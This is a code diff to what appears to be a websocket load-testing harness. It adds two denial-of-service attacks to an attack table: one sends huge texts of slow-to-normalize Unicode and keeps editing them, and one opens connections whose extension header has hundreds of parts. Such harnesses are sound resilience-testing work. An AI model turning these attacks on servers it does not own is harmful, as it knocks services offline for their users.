@@ -92,16 +92,40 @@ def field(number: int) -> bytes:
     return frame(f'[{number},0,2,"input","{value}"]'.encode())
 
 
+def edit(number: int) -> bytes:
+    """Returns parts of a long text, then edits of its first letter. The texts are equal, but only after normalization."""
+    letters = ["e\u0301", "\u00e9"]
+    sequence = number - PARTS
+    if sequence <= 0:
+        start = letters[0] if number == 1 else ""
+        return frame(f'["part","{start}{PART}"]'.encode())
+    if sequence == 1:
+        return frame(b'[1,0,2,"input",""]')
+    new = letters[(sequence + 1) % 2]
+    return frame(f'[{sequence},0,2,"input","{new}",{sequence - 1},0,{PARTS * len(PART)}]'.encode())
+
+
+async def lists(address: str, path: str) -> None:
+    """Requests a live connection with a header field that has hundreds of parts."""
+    stranger = Stranger(address, path)
+    stranger.cookie = HOG
+    _, writer = await stranger.connect("permessage-deflate;a=b," * 680)
+    writer.close()
+
+
 def search(number: int) -> bytes:
     text = str(number % 10)
     return frame(f'[{number},0,FIELD,"input","{text}"]'.replace("FIELD", str(SEARCH_FIELD)).encode())
 
 
-# The element numbers of the button and the search field on the page `/table`, and the cookie that all tabs of the
-# attacks `hogs` and `deaf` share.
+# The element numbers of the button and the search field on the page `/table`, and the cookie that all clients of
+# the attacks `hogs`, `deaf` and `lists` share.
 UPDATE_BUTTON = 2
 SEARCH_FIELD = 4
 HOG = "trifecta=" + "0123456789abcdef" * 2
+# The parts of a text of almost the maximum length, whose letters are slow to normalize.
+PARTS = 16
+PART = "\ufb2c" * 20_000
 
 ATTACKS = {
     "none": None,
@@ -112,6 +136,8 @@ ATTACKS = {
     "pings": lambda address: joined(address, "/counter", 0, lambda _: frame(b"?" * 125, PING)),
     "clicks": lambda address: joined(address, "/counter", 0.011, tap),
     "deaf": lambda address: joined(address, "/table", 0.011, update, HOG, reads=False),
+    "lists": lambda address: lists(address, "/counter"),
+    "edits": lambda address: joined(address, "/echo", 0.12, edit),
     "values": lambda address: joined(address, "/echo", 0.7, field),
     "hogs": lambda address: joined(address, "/table", 0.05, search, HOG),
     "flood": lambda address: joined(address, "/echo", 0, field),
